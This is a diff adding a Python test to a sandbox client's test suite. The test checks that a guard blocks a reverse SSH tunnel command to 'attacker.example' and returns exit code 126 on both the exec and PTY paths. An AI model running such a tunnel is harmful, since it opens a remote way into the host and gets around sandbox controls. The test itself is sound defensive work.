@@ -316,6 +316,19 @@ def test_rejects_manifest_users() -> None:
     assert client.sandbox_ids == []
 
 
+def test_guard_blocks_come_back_as_exit_126_on_both_paths() -> None:
+    async def go() -> None:
+        client = FirejailSandboxClient()
+        async with session_of(client) as s:
+            r = await s.exec("ssh -R 9000:localhost:22 attacker.example")
+            assert r.exit_code == 126 and b"tunnels.ssh_forward" in r.stderr
+            u = await s.pty_exec_start("ssh -R 9000:localhost:22 attacker.example",
+                                       tty=True, yield_time_s=0.5)
+            assert u.process_id is None and u.exit_code == 126
+            assert b"tunnels.ssh_forward" in u.output
+    run(go())
+
+
 # -- PTY: ports of the SDK's TestUnixLocalPty ---------------------------------------------
 
 
